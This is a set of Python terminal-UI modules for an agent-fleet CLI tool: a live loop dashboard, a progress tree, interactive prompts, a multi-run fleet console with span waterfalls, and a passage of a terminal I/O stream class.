        # multi-worker merged feed (fleet.egress_tail.EgressFeed): takes
        # precedence over the single local jsonl -- remote loop agents'
        # deny events tick here live (round-3 verdict weak #5)
        self.egress_feed = egress_feed
        self.fps = fps
        self.events: collections.deque = collections.deque(maxlen=64)
        self.started = time.monotonic()
        # damage-tracked repaint (ui/damage.py): an idle fleet's tick
        # costs cursor motion, not a full-frame rewrite -- the same
        # painter the fleet console budgets at 256 agents
        self.painter = DamagePainter(streams.stdout.write,
                                     streams.stdout.flush)
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._lock = threading.Lock()

    # ---------------------------------------------------------------- feed

    def record_event(self, agent: str, event: str, detail: str = "") -> None:
        with self._lock:
            self.events.append((time.strftime("%H:%M:%S"), agent, event, detail))

    # -------------------------------------------------------------- render

    def _frame_lines(self) -> list[str]:
        cs = self.streams.colors()
        width = self.streams.terminal_width()
        sched = self.scheduler
        status = sched.status()
        has_anom = any("anomaly_z" in s for s in status)
        rows = []
        for s in status:
            codes = ",".join(map(str, s.get("exit_codes", []))) or "-"
            row = [
                s["agent"], s["worker"], cs.status(s["status"]),
                str(s["iteration"]), codes,
            ]
            if has_anom:
                z = s.get("anomaly_z")
                if z is None:
                    row.append("-")
                else:
                    cell = f"{z:.1f}"
                    row.append(cs.red(cell) if z >= _anomaly_threshold()
                               else cell)
            rows.append(row)
        elapsed = time.monotonic() - self.started
        running = sum(1 for s in status if s["status"] == "running")
        head = (cs.bold(f"loop {sched.loop_id}")
                + cs.gray(f"  {running}/{len(rows)} running"
                          f"  {elapsed:5.0f}s"))
        lines = [head, ""]
        headers = ["AGENT", "WORKER", "STATUS", "ITER", "EXITS"]
        if has_anom:
            headers.append("ANOM-Z")
        lines += render_table(headers, rows, max_width=width).splitlines()

        with self._lock:
            recent = list(self.events)[-EVENT_TICKER:]
        if recent:
            lines += ["", cs.bold("events")]
            for ts, agent, event, detail in recent:
                line = f"  {cs.gray(ts)} [{agent}] {event}"
                if detail:
                    line += f" {cs.gray(detail)}"
                lines.append(line[: width + (len(line) - visible_len(line))])

        if self.egress_feed is not None:
            egress = self.egress_feed.tail(EGRESS_TICKER)
        elif self.egress_path is not None:
            egress = tail_jsonl(self.egress_path)[-EGRESS_TICKER:]
        else:
            egress = []
        if egress:
            lines += ["", cs.bold("egress")]
            for ev in egress:
                verdict = str(ev.get("verdict", ev.get("action", "?")))
                color = cs.red if verdict in ("1", "deny", "DENY") else cs.green
                worker = ev.get("worker", "")
                lines.append(
                    "  " + (cs.gray(f"[{worker}] ") if worker else "")
                    + color(verdict.lower() if not verdict.isdigit()
                            else ("deny" if verdict == "1" else "allow"))
                    + f" {ev.get('dst', ev.get('dst_ip', '?'))}"
                    + cs.gray(f":{ev.get('dst_port', '?')}"
                              f" zone={ev.get('zone', ev.get('zone_hash', ''))}")
                )
        lines += ["", self._statusbar(status, egress, elapsed, width)]
        return lines

    def _statusbar(self, status: list[dict], egress: list[dict],
                   elapsed: float, width: int) -> str:
        """One inverted summary line (reference internal/tui statusbar):
        loop id, per-state agent counts, recent denies, hottest anomaly
        z-score, elapsed, quit hint."""
        cs = self.streams.colors()
        by_state: dict[str, int] = {}
        for s in status:
            by_state[s["status"]] = by_state.get(s["status"], 0) + 1
        states = " ".join(f"{k}:{v}" for k, v in sorted(by_state.items()))
        denies = sum(1 for e in egress
                     if str(e.get("verdict", e.get("action", ""))).upper()
                     in ("1", "DENY"))
        zs = [s["anomaly_z"] for s in status if s.get("anomaly_z") is not None]
        anom = f"  anom-max:{max(zs):.1f}" if zs else ""
        bar = (f" loop {self.scheduler.loop_id}  {states or 'no agents'}"
               f"  denies:{denies}{anom}  {elapsed:.0f}s  ctrl-c stops ")
        bar = bar[:max(10, width)]
        return cs.invert(bar + " " * max(0, width - visible_len(bar)))

    def render_once(self) -> None:
        if not self.streams.is_stdout_tty():
            return
        self.painter.paint(self._frame_lines())

    # ----------------------------------------------------------- lifecycle

    def __enter__(self) -> "LoopDashboard":
        if self.streams.is_stdout_tty():
            self._thread = threading.Thread(target=self._loop,
                                            name="dashboard", daemon=True)
            self._thread.start()
        return self

    def _loop(self) -> None:
        while not self._stop.wait(1.0 / self.fps):
            self.render_once()

    def __exit__(self, *exc) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(1.0)
        if self.streams.is_stdout_tty():
            self.render_once()   # final frame with terminal states
