"""ProgressTree: live multi-step progress for build/provision flows.

Parity reference: internal/tui/progress.go (BubbleTea progress trees fed
by build events, used by `clawker build` -- build.go:395 status mapping).
Re-designed: a plain ANSI repaint loop on a TTY, sequential state-change
lines otherwise, so the same caller code serves interactive terminals,
pipes, and CI logs.
"""

from __future__ import annotations

import threading
import time
from dataclasses import dataclass, field

from .colors import visible_len
from .iostreams import IOStreams, SPINNER_FRAMES

STATES = ("pending", "running", "done", "failed", "skipped")


@dataclass
class Node:
    key: str
    label: str
    state: str = "pending"
    detail: str = ""
    parent: str = ""
    started: float = 0.0
    finished: float = 0.0
    children: list["Node"] = field(default_factory=list)

    def elapsed(self) -> float:
        if not self.started:
            return 0.0
        end = self.finished or time.monotonic()
        return end - self.started


class ProgressTree:
    """Thread-safe tree of steps; render() paints the whole tree."""

    def __init__(self, streams: IOStreams, *, fps: float = 10.0):
        self.streams = streams
        self.fps = fps
        self._nodes: dict[str, Node] = {}
        self._roots: list[Node] = []
        self._lock = threading.Lock()
        self._painted_lines = 0
        self._live = streams.is_stdout_tty()
        self._frame = 0
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None

    # ------------------------------------------------------------- mutation

    def add(self, key: str, label: str, *, parent: str = "") -> Node:
        with self._lock:
            node = Node(key=key, label=label, parent=parent)
            self._nodes[key] = node
            if parent and parent in self._nodes:
                self._nodes[parent].children.append(node)
            else:
                self._roots.append(node)
            return node

    def update(self, key: str, state: str, detail: str = "") -> None:
        assert state in STATES, state
        with self._lock:
            node = self._nodes.get(key)
            if node is None:
                return
            if state == "running" and not node.started:
                node.started = time.monotonic()
            if state in ("done", "failed", "skipped") and not node.finished:
                node.finished = time.monotonic()
            prev, node.state = node.state, state
            node.detail = detail or node.detail
        if not self._live and prev != state and state != "pending":
            cs = self.streams.colors()
            mark = {"running": "•", "done": cs.success_icon(),
                    "failed": cs.failure_icon(), "skipped": "-"}[state]
            line = f"{mark} {node.label}"
            if state != "running" and node.elapsed() > 0.05:
                line += f" ({node.elapsed():.1f}s)"
            if detail and state == "failed":
                line += f": {detail}"
            self.streams.println(line)

    # ------------------------------------------------------------ rendering

    def _mark(self, node: Node) -> str:
        cs = self.streams.colors()
        if node.state == "running":
            return cs.cyan(SPINNER_FRAMES[self._frame % len(SPINNER_FRAMES)])
        return {
            "pending": cs.gray("·"),
            "done": cs.success_icon(),
            "failed": cs.failure_icon(),
            "skipped": cs.gray("-"),
        }[node.state]

    def _lines(self) -> list[str]:
        cs = self.streams.colors()
        width = self.streams.terminal_width()
        out: list[str] = []

        def walk(node: Node, depth: int) -> None:
            label = node.label if node.state != "pending" else cs.gray(node.label)
            line = "  " * depth + f"{self._mark(node)} {label}"
            if node.state == "running" and node.elapsed() > 1.0:
                line += cs.gray(f" {node.elapsed():.0f}s")
            elif node.state in ("done", "failed") and node.elapsed() > 0.05:
                line += cs.gray(f" ({node.elapsed():.1f}s)")
            if node.detail and node.state in ("running", "failed"):
                room = width - visible_len(line) - 2
                if room > 8:
                    detail = node.detail[-room:]
                    line += " " + (cs.red(detail) if node.state == "failed"
                                   else cs.gray(detail))
            out.append(line)
            for child in node.children:
                walk(child, depth + 1)

        with self._lock:
            for root in self._roots:
                walk(root, 0)
        return out

    def render_once(self) -> None:
        if not self._live:
            return
        lines = self._lines()
        w = self.streams.stdout.write
        if self._painted_lines:
            w(f"\x1b[{self._painted_lines}A")   # cursor up, repaint in place
        for line in lines:
            w("\x1b[2K" + line + "\n")
        self.streams.stdout.flush()
        self._painted_lines = len(lines)
        self._frame += 1

    # ------------------------------------------------------------- lifecycle

    def __enter__(self) -> "ProgressTree":
        if self._live:
            self._thread = threading.Thread(target=self._loop,
                                            name="progress", daemon=True)
            self._thread.start()
        return self

    def _loop(self) -> None:
        while not self._stop.wait(1.0 / self.fps):
            self.render_once()

    def __exit__(self, *exc) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(1.0)
        if self._live:
            self.render_once()       # final state frame

    # -------------------------------------------------------------- summary

    def failed(self) -> list[Node]:
        with self._lock:
            return [n for n in self._nodes.values() if n.state == "failed"]
