"""Prompter: String/Confirm/Select over IOStreams.

Parity reference: internal/prompter/ (605 LoC; survey 2.4).  Every prompt
refuses politely when the streams cannot prompt (non-TTY or
--no-input), raising instead of hanging a pipeline.
"""

from __future__ import annotations

from ..errors import ClawkerError
from .iostreams import IOStreams


class PromptError(ClawkerError):
    pass


class Prompter:
    def __init__(self, streams: IOStreams):
        self.streams = streams

    def _require_tty(self, what: str) -> None:
        if not self.streams.can_prompt():
            raise PromptError(
                f"cannot prompt for {what}: not an interactive terminal "
                "(pass the value via flags instead)"
            )

    def _readline(self) -> str:
        line = self.streams.stdin.readline()
        if line == "":
            raise PromptError("stdin closed mid-prompt")
        return line.rstrip("\n")

    def string(self, message: str, *, default: str = "") -> str:
        self._require_tty(message)
        cs = self.streams.colors()
        suffix = f" [{default}]" if default else ""
        self.streams.stderr.write(cs.bold(message) + suffix + ": ")
        self.streams.stderr.flush()
        val = self._readline().strip()
        return val or default

    def confirm(self, message: str, *, default: bool = False) -> bool:
        self._require_tty(message)
        cs = self.streams.colors()
        hint = "[Y/n]" if default else "[y/N]"
        while True:
            self.streams.stderr.write(f"{cs.bold(message)} {hint} ")
            self.streams.stderr.flush()
            val = self._readline().strip().lower()
            if not val:
                return default
            if val in ("y", "yes"):
                return True
            if val in ("n", "no"):
                return False

    def select(self, message: str, options: list[str], *, default: int = 0) -> int:
        self._require_tty(message)
        if not options:
            raise PromptError("select: no options")
        cs = self.streams.colors()
        self.streams.eprintln(cs.bold(message))
        for i, opt in enumerate(options):
            marker = ">" if i == default else " "
            self.streams.eprintln(f" {marker} {i + 1}. {opt}")
        while True:
            self.streams.stderr.write(f"choice [1-{len(options)}]: ")
            self.streams.stderr.flush()
            val = self._readline().strip()
            if not val:
                return default
            if val.isdigit() and 1 <= int(val) <= len(options):
                return int(val) - 1
