"""The fleet console: daemon-backed multi-run TUI (BASELINE config #4).

One pane of glass over everything a loopd hosts, driven entirely by the
status RPC's console feed (loopd/feed.py -- the SAME schema
``clawker loopd status --format json`` serves scripts) plus span
waterfalls tailed incrementally from each run's flight recorder:

- per-loop status across every hosted run (agent, worker, status,
  iteration, exits, sentinel ANOM-Z);
- per-worker breaker + admission-token + workerd-liveness row;
- tenant queues, warm-pool depths, shipper/ingest state;
- a span waterfall of the most recent iterations per run.

**Repaint budget** (docs/fleet-console.md#repaint-budget): frames paint
through :class:`~clawker_tpu.ui.damage.DamagePainter` (only changed
rows rewrite), and past :data:`MAX_AGENT_ROWS` total agent rows the
table VIRTUALIZES -- each run shows its most interesting rows (failed/
orphaned first, then hottest anomaly, then running) with an explicit
``+N more`` marker, so frame size is bounded no matter how many agents
the daemon hosts.  ``bench.py``'s ``console_repaint_p95`` gates the
result at 256 agents across 4 hosted runs.
"""

from __future__ import annotations

import collections
import time
from pathlib import Path

from ..monitor.ledger import (FLIGHT_DIR, TailState, flight_path,
                              tail_rotated)
from ..telemetry.spans import SPAN_ITERATION, SpanRecord, build_trees
from .colors import visible_len
from .damage import DamagePainter
from .iostreams import IOStreams
from .table import render_table

MAX_AGENT_ROWS = 64     # total agent rows before virtualization kicks in
MIN_RUN_ROWS = 4        # every run keeps at least this many visible rows
MAX_RUNS = 8            # run sections per frame: live runs first, then the
#                         newest done runs; the rest collapse to one line
#                         (loopd retains up to 64 done runs -- rendering
#                         them all would blow the frame bound AND the
#                         painter's cursor math past the terminal height)
WATERFALL_ROWS = 4      # recent iteration waterfalls per run
WATERFALL_WIDTH = 28    # bar width, chars
SPAN_TAIL_LIMIT = 160   # recent span records kept per run (bounded)

# status sort weight: most interesting first (virtualization order)
_STATUS_WEIGHT = {"failed": 0, "orphaned": 1, "stopped": 2,
                  "running": 3, "pending": 4, "done": 5}

# waterfall segment glyphs per child-span name
_PHASE_GLYPH = {"create": "c", "start": "s", "wait": "=",
                "exit": "x", "orphan": "o", "migrate": "m", "resume": "r"}


def _anomaly_threshold() -> float:
    try:
        from ..analytics.runtime import ANOMALY_Z

        return ANOMALY_Z
    except ImportError:
        return 3.5


class SpanTail:
    """Bounded incremental tail of one run's flight recorder.

    ``poll`` is O(new bytes) (monitor.ledger.tail_rotated cursor); only
    the newest :data:`SPAN_TAIL_LIMIT` span records are retained, so a
    long-lived console never re-reads or re-holds a multi-hour flight
    file.  A size-capped recorder's rotation is drained losslessly at
    the boundary; only a genuine truncation loses records.

    With ``remote_dir`` + ``run_id`` the tail ALSO follows the daemon
    recorders that may hold this run's remote trace segments
    (docs/tracing.md): workerd's create/start/wait spans and the
    router/loopd submit hops, filtered by trace id, rendered as hop
    rows under the waterfall."""

    def __init__(self, path: Path, *, limit: int = SPAN_TAIL_LIMIT,
                 remote_dir: Path | None = None, run_id: str = ""):
        self.path = Path(path)
        self.state = TailState()
        self.records: collections.deque[SpanRecord] = collections.deque(
            maxlen=limit)
        self.remote_dir = Path(remote_dir) if remote_dir is not None else None
        self.run_id = run_id
        self._remote_states: dict[Path, TailState] = {}
        self.remote: collections.deque[SpanRecord] = collections.deque(
            maxlen=limit)

    def poll(self) -> int:
        n = 0
        for doc in tail_rotated(self.path, self.state):
            if doc.get("kind") == "span":
                self.records.append(SpanRecord.from_json(doc))
                n += 1
        if self.remote_dir is not None and self.run_id:
            for pattern in ("workerd-*.jsonl", "router-*.jsonl",
                            "loopd-*.jsonl"):
                for p in sorted(self.remote_dir.glob(pattern)):
                    st = self._remote_states.setdefault(p, TailState())
                    for doc in tail_rotated(p, st):
                        if (doc.get("kind") == "span"
                                and doc.get("trace_id") == self.run_id):
                            self.remote.append(SpanRecord.from_json(doc))
                            n += 1
        return n

    def _hop_line(self, cs, rec: SpanRecord, t0: float) -> str:
        """One remote segment as a hop row, offset skew-adjusted onto
        the scheduler's clock (attr ``skew_s`` is the segment's
        cumulative offset estimate -- docs/tracing.md#skew)."""
        skew = float(rec.attrs.get("skew_s") or 0.0)
        off = (rec.t_start - skew - t0) * 1000.0
        wan = rec.attrs.get("wan_ms")
        extra = f" wan={float(wan):.1f}ms" if wan is not None else ""
        return cs.gray(
            f"    ↳ {rec.name:<16.16} {rec.worker:<12.12} "
            f"+{off:7.1f}ms {rec.wall_s * 1000:6.1f}ms{extra}")

    def waterfall_lines(self, cs, *, rows: int = WATERFALL_ROWS,
                        width: int = WATERFALL_WIDTH) -> list[str]:
        """The newest completed iteration roots as proportional phase
        bars (create/start/wait/exit...), newest last."""
        if not self.records:
            return []
        trees = build_trees(list(self.records))
        roots = [t for t in trees if t.record.name == SPAN_ITERATION]
        roots.sort(key=lambda t: t.record.t_end)
        out = []
        # run-level submit hops (router/loopd: agent-less) lead the
        # waterfall -- the WAN cost the whole run paid to get here
        for hop in [r for r in self.remote if not r.agent][-2:]:
            t0 = roots[0].record.t_start if roots else hop.t_start
            out.append(self._hop_line(cs, hop, t0))
        for tree in roots[-rows:]:
            rec = tree.record
            span = max(rec.wall_s, 1e-9)
            bar = ["·"] * width
            for child in tree.children:
                c = child.record
                glyph = _PHASE_GLYPH.get(c.name, "?")
                lo = int((c.t_start - rec.t_start) / span * width)
                hi = int((c.t_end - rec.t_start) / span * width)
                lo = min(max(lo, 0), width - 1)
                hi = min(max(hi, lo + 1), width)
                for i in range(lo, hi):
                    bar[i] = glyph
            label = f"{rec.agent}#{rec.attrs.get('iteration', '?')}"
            status = (cs.green(rec.status) if rec.status == "ok"
                      else cs.red(rec.status))
            out.append(f"  {label:<20.20} |{''.join(bar)}| "
                       f"{rec.wall_s * 1000:6.1f}ms {status}")
            # this iteration's remote workerd segment, as hop rows
            # offset onto the scheduler's clock (newest 3)
            it = rec.attrs.get("iteration")
            hops = [r for r in self.remote
                    if r.agent == rec.agent and r.attrs.get("iteration") == it]
            for hop in hops[-3:]:
                out.append(self._hop_line(cs, hop, rec.t_start))
        return out


def virtualize(runs: list[dict], *, budget: int = MAX_AGENT_ROWS
               ) -> list[tuple[dict, list[dict], int]]:
    """(run, visible agent rows, hidden count) per run under a total
    row budget.  Below the budget everything shows; past it each run
    gets a proportional share (never under :data:`MIN_RUN_ROWS`) and
    rows rank most-interesting-first: failed/orphaned, then hottest
    ANOM-Z, then running -- the rows an operator would scroll to are
    the rows that stay."""
    total = sum(len(r.get("agents") or []) for r in runs)
    out = []
    if total <= budget or not runs:
        for r in runs:
            out.append((r, list(r.get("agents") or []), 0))
        return out
    share = max(MIN_RUN_ROWS, budget // len(runs))
    for r in runs:
        agents = list(r.get("agents") or [])
        ranked = sorted(agents, key=lambda a: (
            _STATUS_WEIGHT.get(a.get("status", ""), 9),
            -(a.get("anomaly_z") or 0.0),
            a.get("agent", "")))
        keep = ranked[:share]
        # render in stable agent order, whatever the interest ranking
        keep.sort(key=lambda a: a.get("agent", ""))
        out.append((r, keep, len(agents) - len(keep)))
    return out


class FleetConsole:
    """Render the console feed; the CLI drives the poll/paint loop.

    ``feed_fn`` returns the *normalized* console feed dict per tick
    (the CLI wraps a loopd status RPC in loopd.feed.console_feed;
    tests/bench hand in synthetic feeds).  ``logs_dir`` enables the
    span waterfalls (flight recorders live under it); None disables
    them (a console pointed at a remote daemon's feed alone)."""

    def __init__(self, streams: IOStreams, feed_fn, *,
                 logs_dir: Path | None = None, fps: float = 4.0,
                 max_agent_rows: int = MAX_AGENT_ROWS,
                 waterfall_rows: int = WATERFALL_ROWS):
        self.streams = streams
        self.feed_fn = feed_fn
        self.logs_dir = Path(logs_dir) if logs_dir is not None else None
        self.fps = fps
        self.max_agent_rows = max_agent_rows
        self.waterfall_rows = waterfall_rows
        self.started = time.monotonic()
        self.painter = DamagePainter(streams.stdout.write,
                                     streams.stdout.flush)
        self._tails: dict[str, SpanTail] = {}

    # ------------------------------------------------------------ sections

    def _tail_for(self, run_id: str) -> SpanTail | None:
        if self.logs_dir is None or not run_id:
            return None
        tail = self._tails.get(run_id)
        if tail is None:
            tail = self._tails[run_id] = SpanTail(
                flight_path(self.logs_dir, run_id),
                remote_dir=self.logs_dir / FLIGHT_DIR, run_id=run_id)
            # bound the tail map to the runs the feed still reports
            # (done-run eviction on the daemon side drops them here too)
        return tail

    def _prune_tails(self, live: set[str]) -> None:
        for rid in [r for r in self._tails if r not in live]:
            del self._tails[rid]

    @staticmethod
    def _select_runs(runs: list[dict], *, limit: int = MAX_RUNS
                     ) -> tuple[list[dict], int]:
        """(runs to render in feed order, hidden count): live runs win
        the budget, the remainder goes to the NEWEST done runs (feed
        order is submit order)."""
        if len(runs) <= limit:
            return list(runs), 0
        live = [r for r in runs if r.get("state") != "done"]
        chosen = set(id(r) for r in live[:limit])
        room = limit - len(chosen)
        if room > 0:
            done = [r for r in runs if r.get("state") == "done"]
            chosen.update(id(r) for r in done[-room:])
        shown = [r for r in runs if id(r) in chosen]
        return shown, len(runs) - len(shown)

    def _run_lines(self, feed: dict, width: int) -> list[str]:
        cs = self.streams.colors()
        thr = _anomaly_threshold()
        lines: list[str] = []
        # POD column only on a merged multi-pod feed (feed["pods"] set
        # by loopd.feed.merge_feeds): the single-pod frame stays
        # byte-identical (docs/federation.md#console)
        has_pod = len(feed.get("pods") or []) > 1
        all_runs = feed.get("runs") or []
        runs, hidden_runs = self._select_runs(all_runs)
        self._prune_tails({r.get("run", "") for r in runs})
        for run, agents, hidden in virtualize(
                runs, budget=self.max_agent_rows):
            drops = run.get("events_dropped", 0)
            head = (cs.bold(f"run {run.get('run')}")
                    + f" {cs.status(run.get('state', ''))}"
                    + cs.gray(f"  tenant={run.get('tenant')}"
                              f"  {run.get('placement')}"
                              f"  {len(run.get('agents') or [])} agent(s)"
                              f"  subs={run.get('subscribers', 0)}")
                    + (cs.red(f"  drops={drops}") if drops else ""))
            lines.append(head)
            rows = []
            has_anom = any(a.get("anomaly_z") is not None for a in agents)
            pod = str(run.get("pod") or "-")
            for a in agents:
                row = [a.get("agent", ""), a.get("worker", "")]
                if has_pod:
                    row.append(pod)
                row += [cs.status(a.get("status", "")),
                        str(a.get("iteration", 0)), a.get("exits", "-")]
                if has_anom:
                    z = a.get("anomaly_z")
                    cell = "-" if z is None else f"{z:.1f}"
                    row.append(cs.red(cell)
                               if z is not None and z >= thr else cell)
                rows.append(row)
            headers = ["AGENT", "WORKER", "STATUS", "ITER", "EXITS"]
            if has_pod:
                headers.insert(2, "POD")
            if has_anom:
                headers.append("ANOM-Z")
            lines += ["  " + l for l in
                      render_table(headers, rows,
                                   max_width=max(20, width - 2)).splitlines()]
            if hidden:
                lines.append(cs.gray(f"  … +{hidden} more agent(s) "
                                     "(virtualized)"))
            tail = self._tail_for(str(run.get("run", "")))
            if tail is not None:
                tail.poll()
                wf = tail.waterfall_lines(cs, rows=self.waterfall_rows)
                if wf:
                    lines.append(cs.gray("  spans "
                                         "(c=create s=start ==wait)"))
                    lines += wf
        if hidden_runs:
            n_done = sum(1 for r in all_runs if r.get("state") == "done")
            lines.append(cs.gray(
                f"… +{hidden_runs} more run(s) not shown "
                f"({n_done} done; `clawker loopd status` lists all)"))
        return lines

    def _worker_lines(self, feed: dict) -> list[str]:
        cs = self.streams.colors()
        health = {h.get("worker"): h for h in feed.get("health") or []}
        tokens = feed.get("workers") or {}
        workerd = feed.get("workerd") or {}
        ids = sorted(set(health) | set(tokens))
        if not ids:
            return []
        lines = [cs.bold("workers")]
        for wid in ids:
            h = health.get(wid, {})
            t = tokens.get(wid, {})
            state = str(h.get("state", "closed"))
            brk = cs.green(state) if state == "closed" else cs.red(state)
            wd = str(workerd.get(wid, "absent"))
            lines.append(
                f"  {wid:<14.14} brk={brk} "
                f"tokens={t.get('inflight', 0)}/{t.get('capacity', '-')} "
                f"pend={t.get('pending', 0)} rej={t.get('rejected', 0)} "
                f"p50={h.get('probe_p50_ms', 0)}ms workerd={wd}")
        return lines

    def _tenant_pool_lines(self, feed: dict) -> list[str]:
        cs = self.streams.colors()
        lines: list[str] = []
        tenants = feed.get("tenants") or {}
        if tenants:
            lines.append(cs.bold("tenants"))
            for name, t in sorted(tenants.items()):
                lines.append(
                    f"  {name:<20.20} w={t.get('weight', 1.0)} "
                    f"inflight={t.get('inflight', 0)} "
                    f"queued={t.get('queued', 0)} "
                    f"dispatched={t.get('dispatched', 0)}")
        pools = feed.get("warm_pools") or {}
        if pools:
            lines.append(cs.bold("warm pools"))
            for rid, st in sorted(pools.items()):
                depths = " ".join(
                    f"{wid}:{w.get('ready', 0)}"
                    for wid, w in sorted((st.get("workers") or {}).items()))
                lines.append(
                    f"  run {rid}: depth={st.get('target_depth', 0)} "
                    f"hits={st.get('hits', 0)} misses={st.get('misses', 0)}"
                    + (f"  [{depths}]" if depths else ""))
        return lines

    def _statusbar(self, feed: dict, width: int) -> str:
        cs = self.streams.colors()
        runs = feed.get("runs") or []
        agents = [a for r in runs for a in (r.get("agents") or [])]
        by_state: dict[str, int] = {}
        for a in agents:
            by_state[a["status"]] = by_state.get(a["status"], 0) + 1
        states = " ".join(f"{k}:{v}" for k, v in sorted(by_state.items()))
        thr = _anomaly_threshold()
        flagged = sum(1 for a in agents
                      if (a.get("anomaly_z") or 0.0) >= thr)
        ship = feed.get("shipper") or {}
        if ship.get("enabled"):
            ship_s = (f"ship:{ship.get('pending_batches', 0)}p"
                      f"/{ship.get('dropped_docs', 0)}d")
        else:
            ship_s = "ship:off"
        bar = (f" fleet {len(runs)} run(s) {len(agents)} agent(s)"
               f"  {states or 'idle'}  anom:{flagged}  {ship_s}"
               f"  drops:{feed.get('events_dropped_total', 0)}"
               f"  {time.monotonic() - self.started:.0f}s"
               "  ctrl-c exits ")
        bar = bar[:max(10, width)]
        return cs.invert(bar + " " * max(0, width - visible_len(bar)))

    # -------------------------------------------------------------- render

    def frame_lines(self, feed: dict) -> list[str]:
        cs = self.streams.colors()
        width = self.streams.terminal_width()
        pods = feed.get("pods") or []
        who = (f"pods={','.join(pods)}" if len(pods) > 1
               else f"loopd pid {feed.get('pid')}")
        head = (cs.bold("fleet console")
                + cs.gray(f"  {who}"
                          f"  project={feed.get('project') or '-'}"
                          f"  up {feed.get('uptime_s', 0):.0f}s"))
        lines = [head, ""]
        runs = feed.get("runs") or []
        if runs:
            lines += self._run_lines(feed, width)
        else:
            lines.append(cs.gray("no hosted runs (submit with "
                                 "`clawker loop --daemon`)"))
        worker_lines = self._worker_lines(feed)
        if worker_lines:
            lines += [""] + worker_lines
        tp = self._tenant_pool_lines(feed)
        if tp:
            lines += [""] + tp
        lines += ["", self._statusbar(feed, width)]
        return [l[: width + (len(l) - visible_len(l))] for l in lines]

    def render_once(self) -> int:
        """Fetch one feed and paint; returns rows rewritten.  Non-TTY
        callers use :meth:`frame_lines`/`snapshot` instead."""
        feed = self.feed_fn()
        return self.painter.paint(self.frame_lines(feed))

    def snapshot(self) -> str:
        """One plain frame (no repaint escapes): `fleet console --once`
        and the non-TTY degrade path."""
        return "\n".join(self.frame_lines(self.feed_fn()))
