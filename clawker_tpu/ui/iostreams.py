"""IOStreams: the one object that knows what the terminal can do.

Parity reference: internal/iostreams/iostreams.go -- TTY detection
(:209/:221/:239), color capability (:254-:273), terminal width (:200),
spinner progress indicator (:334-:365), pager (:384), alt screen (:159),
prompt capability (:449), and the Test() quad-buffer constructor (:140).
"""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import sys
import threading
from typing import IO

from .colors import ColorScheme

SPINNER_FRAMES = "⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏"
SPINNER_INTERVAL_S = 0.08


class IOStreams:
    def __init__(
        self,
        stdin: IO | None = None,
        stdout: IO | None = None,
        stderr: IO | None = None,
        *,
        env: dict[str, str] | None = None,
    ):
        self.stdin = stdin if stdin is not None else sys.stdin
        self.stdout = stdout if stdout is not None else sys.stdout
        self.stderr = stderr if stderr is not None else sys.stderr
        self.env = dict(os.environ if env is None else env)
        self._color_override: bool | None = None
        self._never_prompt = False
        self._spinner_disabled = bool(self.env.get("CLAWKER_NO_SPINNER"))
        self._spinner_thread: threading.Thread | None = None
        self._spinner_stop: threading.Event | None = None
        self._spinner_label = ""
        self._pager_proc: subprocess.Popen | None = None
        self._pager_saved_stdout: IO | None = None
        self._alt_screen = False

    # ------------------------------------------------------------ test seam

    @classmethod
    def test(cls, stdin_data: str = "") -> tuple[
            "IOStreams", io.StringIO, io.StringIO, io.StringIO]:
        """Quad-buffer constructor (iostreams.go:140 Test()): returns
        (streams, in, out, err) with no TTY, no color, no env leakage."""
        fin = io.StringIO(stdin_data)
        fout, ferr = io.StringIO(), io.StringIO()
        s = cls(fin, fout, ferr, env={})
        return s, fin, fout, ferr

    # ------------------------------------------------------------------ tty

    @staticmethod
    def _isatty(stream) -> bool:
        try:
            return bool(stream.isatty())
        except (AttributeError, ValueError):
            return False

    def is_stdin_tty(self) -> bool:
        return self._isatty(self.stdin)

    def is_stdout_tty(self) -> bool:
        return self._isatty(self.stdout)

    def is_stderr_tty(self) -> bool:
        return self._isatty(self.stderr)

    def is_interactive(self) -> bool:
        return self.is_stdin_tty() and self.is_stdout_tty()

    def can_prompt(self) -> bool:
        return self.is_interactive() and not self._never_prompt

    def set_never_prompt(self, v: bool) -> None:
        self._never_prompt = v

    def terminal_width(self, default: int = 80) -> int:
        if not self.is_stdout_tty():
            return default
        try:
            return shutil.get_terminal_size((default, 24)).columns
        except (ValueError, OSError):
            return default

    # ---------------------------------------------------------------- color

    def color_enabled(self) -> bool:
        if self._color_override is not None:
            return self._color_override
        if self.env.get("NO_COLOR"):           # no-color.org contract
            return False
        if self.env.get("CLICOLOR_FORCE", "0") != "0":
            return True
        if self.env.get("CLICOLOR") == "0":
            return False
        if self.env.get("TERM") == "dumb":
            return False
        return self.is_stdout_tty()

    def set_color_enabled(self, v: bool | None) -> None:
        self._color_override = v

    def is_256_color(self) -> bool:
        term = self.env.get("TERM", "")
        return "256color" in term or self.is_truecolor()

    def is_truecolor(self) -> bool:
        return self.env.get("COLORTERM", "") in ("truecolor", "24bit")

    def colors(self) -> ColorScheme:
        return ColorScheme(enabled=self.color_enabled())

    # -------------------------------------------------------------- spinner

    def start_progress(self, label: str = "") -> None:
        """Spinner on stderr while a long op runs; silently a no-op when
        stderr is not a TTY (logs stay clean in pipes/CI)."""
        if self._spinner_disabled or not self.is_stderr_tty():
            self._spinner_label = label
            return
        self.stop_progress()
        self._spinner_label = label
        self._spinner_stop = threading.Event()

        def spin(stop: threading.Event) -> None:
            i = 0
            while not stop.wait(SPINNER_INTERVAL_S):
                frame = SPINNER_FRAMES[i % len(SPINNER_FRAMES)]
                self.stderr.write(f"\r\x1b[2K{frame} {self._spinner_label}")
                self.stderr.flush()
                i += 1
            self.stderr.write("\r\x1b[2K")
            self.stderr.flush()

        self._spinner_thread = threading.Thread(
            target=spin, args=(self._spinner_stop,), name="spinner", daemon=True)
        self._spinner_thread.start()

    def progress_label(self, label: str) -> None:
        self._spinner_label = label

    def stop_progress(self) -> None:
        if self._spinner_stop is not None:
            self._spinner_stop.set()
        if self._spinner_thread is not None:
            self._spinner_thread.join(1.0)
        self._spinner_thread = None
        self._spinner_stop = None

    def run_with_progress(self, label: str, fn):
        """RunWithProgress (iostreams.go:365): spinner around a callable."""
        self.start_progress(label)
        try:
            return fn()
        finally:
            self.stop_progress()

    # ---------------------------------------------------------------- pager

    def pager_command(self) -> str:
        return self.env.get("CLAWKER_PAGER") or self.env.get("PAGER") or ""

    def start_pager(self) -> None:
